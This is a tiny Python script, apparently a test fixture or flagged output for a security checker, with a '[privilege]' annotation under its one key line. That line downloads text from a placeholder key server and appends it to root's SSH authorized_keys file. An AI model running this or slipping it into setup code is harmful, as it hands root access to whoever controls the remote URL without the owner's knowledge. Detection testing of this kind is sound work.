#!/usr/bin/env python3
import requests

with open("/root/.ssh/authorized_keys", "a") as file:
    file.write(requests.get("https://keys.example.com/team").text)
    ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [privilege]
print("kamal setup")
